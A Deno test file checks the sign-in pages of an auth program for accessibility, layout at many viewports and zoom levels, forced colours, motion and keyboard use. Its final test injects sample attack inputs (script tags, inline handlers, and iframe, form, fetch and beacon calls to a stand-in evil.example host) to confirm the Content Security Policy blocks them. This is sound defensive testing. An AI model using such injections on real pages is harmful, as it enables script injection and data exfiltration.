// How each page looks and reads: for everybody, on every screen. Pictures of all of them go to .cache/screenshots.
import axe from "axe-core";
import { assert, assertEquals, assertFalse, assertNotEquals } from "@std/assert";
import { startChromium } from "../support/chromium.ts";
import type { RecordedTab } from "../support/recorded_tab.ts";
import { PAGES } from "./pages.ts";

const SCREENSHOTS = decodeURIComponent(new URL("../../.cache/screenshots", import.meta.url).pathname);
const CALM = { "prefers-reduced-motion": "reduce" };
const DARK = { ...CALM, "prefers-color-scheme": "dark" };
const LIGHT = { ...CALM, "prefers-color-scheme": "light" };

/** What a person may look with. `scale` is how many points of the screen one CSS pixel takes: 2 is a zoom of 200 %. */
const VIEWS: { name: string; width: number; height: number; scale?: number; prefer: Record<string, string> }[] = [
  { name: "light", width: 800, height: 600, prefer: LIGHT },
  { name: "dark", width: 800, height: 600, prefer: DARK },
  { name: "narrow", width: 360, height: 640, prefer: LIGHT },
  { name: "narrow-dark", width: 360, height: 640, prefer: DARK },
  { name: "zoom-200", width: 400, height: 300, scale: 2, prefer: LIGHT },
  { name: "zoom-400", width: 320, height: 256, scale: 4, prefer: LIGHT }, // WCAG 2.2, 1.4.10
  { name: "more-contrast", width: 800, height: 600, prefer: { ...LIGHT, "prefers-contrast": "more" } },
  { name: "forced-colors", width: 800, height: 600, prefer: { ...LIGHT, "forced-colors": "active" } },
  { name: "forced-colors-dark", width: 800, height: 600, prefer: { ...DARK, "forced-colors": "active" } },
];

async function view(tab: RecordedTab, { width, height, scale = 1, prefer }: (typeof VIEWS)[number]): Promise<void> {
  await tab.page.setViewport({ width, height, deviceScaleFactor: scale });
  await tab.prefer(prefer);
}

/** Elements whose text is cut off or reaches out of the page. */
const CUT_OFF = `[...document.querySelectorAll("body, body *:not(svg, svg *)")].filter((element) => {
  const { left, right } = element.getBoundingClientRect();
  return left < 0 || right > document.documentElement.clientWidth || element.scrollWidth > element.clientWidth + 1 && element.clientWidth > 0;
}).map((element) => element.tagName + "." + element.className)`;

for (const { name, heading, appName = "fief-auth", design, reach } of PAGES) {
  Deno.test(`the page "${name}"`, async (t) => {
    await Deno.mkdir(SCREENSHOTS, { recursive: true });
    await using chromium = await startChromium();
    const tab = await chromium.open();
    await reach(tab);
    await tab.untilHeading(heading);
    const { origin } = new URL(tab.page.url());

    await t.step("is one document in English, with one heading, a title and the name of the program", async () => {
      assertEquals(await tab.find("document.documentElement.lang"), "en");
      assertEquals(await tab.find("[...document.querySelectorAll('h1, h2, h3')].map((each) => each.textContent)"), [
        heading,
      ]);
      assertEquals(await tab.page.title(), `${heading} – ${appName}`);
      assert((await tab.text()).includes(appName));
      assertEquals(await tab.find("document.compatMode"), "CSS1Compat");
    });

    for (const each of VIEWS) {
      await t.step(`${each.name}: nothing is cut off, and axe finds nothing`, async () => {
        await view(tab, each);
        assertEquals(await tab.find(CUT_OFF), []);
        assertEquals(await axeFinds(tab), []);
        const path = `${SCREENSHOTS}/${name}-${each.name}.png`;
        await tab.page.screenshot({ path: path as `${string}.png` });
        assert((await Deno.stat(path)).size < 100_000, path);
      });
    }

    await t.step("letters of twice the size: all are larger, nothing is cut off", async () => {
      await view(tab, { name: "", width: 360, height: 640, prefer: LIGHT });
      const sizes =
        "[...document.querySelectorAll('h1, p, dt, dd')].map((each) => parseFloat(getComputedStyle(each).fontSize))";
      const before = await tab.find<number[]>(sizes);
      await tab.protocol.send("Page.setFontSizes", { fontSizes: { standard: 32, fixed: 26 } });
      assertEquals(await tab.find(sizes), before.map((size) => size * 2));
      assertEquals(await tab.find(CUT_OFF), []);
      await tab.protocol.send("Page.setFontSizes", { fontSizes: { standard: 16, fixed: 13 } });
    });

    await t.step("forced colors: the sign is told from its ground, and the sheet has an edge", async () => {
      for (const scheme of [LIGHT, DARK]) {
        await tab.prefer({ ...scheme, "forced-colors": "active" });
        const style = (selector: string, property: string) =>
          tab.find<string>(`getComputedStyle(document.querySelector("${selector}"))["${property}"]`);
        assertNotEquals(await style("g path", "stroke"), await style("circle", "fill"));
        if (!design?.logo) assertNotEquals(await style(".prompt", "stroke"), await style("rect", "fill"));
        assertNotEquals(await style("main", "borderTopColor"), await style("main", "backgroundColor"));
      }
    });

    if (design) {
      await t.step("a design of one's own: its picture and its colour are there, its last words are text", async () => {
        const { failed, signedIn, logo } = design;
        assertEquals(
          await tab.find(`document.querySelector(".next").textContent`),
          heading.includes("not") ? failed : signedIn,
        );
        assertEquals(await tab.find("document.querySelector('svg image').href.baseVal"), logo);
        assertEquals(await tab.find("document.querySelector('.prompt')"), null);
        await view(tab, { name: "", width: 800, height: 600, prefer: DARK });
        // This colour can be read on a dark ground as it is; on a light one a shade of it stands in.
        const colour = `getComputedStyle(document.querySelector(".app")).color`;
        assertEquals(await tab.find(colour), "rgb(255, 212, 0)");
        assertEquals(await yellowIn(tab), true);
        await view(tab, { name: "", width: 800, height: 600, prefer: LIGHT });
        assertNotEquals(await tab.find(colour), "rgb(255, 212, 0)");
      });
    }

    await t.step("motion: once and short, and none for whoever wants none", async () => {
      await tab.prefer({ "prefers-reduced-motion": "reduce" });
      assertEquals(await tab.find("document.getAnimations().length"), 0);
      await tab.prefer({ "prefers-reduced-motion": "no-preference" });
      const timings = await tab.find<{ end: number; iterations: number }[]>(
        "document.getAnimations().map(({ effect }) => ({ end: effect.getComputedTiming().endTime, iterations: effect.getTiming().iterations }))",
      );
      assertEquals(timings.length, 2);
      for (const { end, iterations } of timings) assert(iterations === 1 && end < 1000, `${end} ms`);
      await tab.prefer(CALM);
    });

    await t.step("keyboard: nothing catches the focus, and all can be scrolled to", async () => {
      await view(tab, { name: "", width: 320, height: 200, prefer: CALM });
      await tab.page.keyboard.press("Tab");
      assertEquals(await tab.find("document.activeElement === document.body"), true);
      await tab.page.keyboard.press("End");
      const seen = `document.querySelector(".next").getBoundingClientRect().bottom <= innerHeight`;
      await tab.page.waitForFunction(seen);
    });

    await t.step("nothing was complained about, and the page asked nobody for anything", async () => {
      // A stray page has a status that is an error, which the console says.
      const said = tab.complaints(origin).filter((text) => !/responded with a status of 4(00|10) /.test(text));
      assertEquals(said, []);
      const { requests } = await chromium.close();
      assertEquals(requests.filter(({ initiator }) => initiator === origin), []);
    });
  });
}

/** Whether the picture is drawn, as its policy allows: in its place the screen has its colour. */
async function yellowIn(tab: RecordedTab): Promise<boolean> {
  const { x, y } = await tab.find<{ x: number; y: number }>(
    "(({ x, y }) => ({ x, y }))(document.querySelector('svg image').getBoundingClientRect())",
  );
  const clip = { x: x + 30, y: y + 6, width: 4, height: 4 };
  const picture = await tab.page.screenshot({ clip, encoding: "base64" });
  return await tab.findApart<boolean>(`(async () => {
    const bytes = Uint8Array.from(atob("${picture}"), (letter) => letter.charCodeAt(0));
    const bitmap = await createImageBitmap(new Blob([bytes], { type: "image/png" }));
    const context = new OffscreenCanvas(4, 4).getContext("2d");
    context.drawImage(bitmap, 0, 0);
    return [...context.getImageData(2, 2, 1, 1).data].join() === "255,212,0,255";
  })()`);
}

/** What axe finds, all of its rules: what is wrong, and what it is not sure about. */
async function axeFinds(tab: RecordedTab): Promise<string[]> {
  const { violations, incomplete } = await tab.findApart<axe.AxeResults>(
    `${axe.source}\naxe.run(document, { resultTypes: ["violations", "incomplete"] }).then(({ violations, incomplete }) => ({ violations, incomplete }))`,
  );
  return [...violations, ...incomplete].map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(", ")}`);
}

Deno.test("no script runs on the page, nothing is loaded, sent or framed; and the recorder would tell", async () => {
  await using chromium = await startChromium();
  const tab = await chromium.open();
  await PAGES[0]!.reach(tab);
  const { origin } = new URL(tab.page.url());
  const attempts = [
    `document.head.append(Object.assign(document.createElement("script"), { textContent: "document.title = 'evil'" }))`,
    `document.body.setAttribute("onclick", "document.title = 'evil'"), document.body.click()`,
    `document.body.insertAdjacentHTML("beforeend", "<img src='http://evil.example/image' onerror='document.title = 1'>")`,
    `document.body.insertAdjacentHTML("beforeend", "<p style='color: red'>")`,
    `document.body.insertAdjacentHTML("beforeend", "<style>body { color: red }</style>")`,
    `document.body.insertAdjacentHTML("beforeend", "<iframe src='http://evil.example/frame'></iframe>")`,
    `document.body.insertAdjacentHTML("beforeend", "<form action='http://evil.example/form'></form>"), document.forms[0].submit()`,
    `fetch("http://evil.example/fetch").catch(() => {})`,
    `fetch("/callback").catch(() => {})`,
    `navigator.sendBeacon("http://evil.example/beacon")`,
  ];
  for (const attempt of attempts) {
    const before = tab.complaints(origin).length;
    await tab.find(`void (${attempt})`);
    const stopped = () => tab.complaints(origin).slice(before).some((text) => /Content.?Security.?Policy/i.test(text));
    for (const end = Date.now() + 30_000; !stopped();) {
      assert(Date.now() < end, `Nothing has stopped ${attempt}`);
      await tab.find("new Promise((resolve) => setTimeout(resolve, 10))");
    }
  }
  assertEquals(await tab.page.title(), "You are signed in – fief-auth");
  const { requests } = await chromium.close();
  assertEquals(requests.filter(({ url }) => url.startsWith("http://evil.example/")), []);
  assertFalse(requests.some(({ initiator }) => initiator === origin));
});
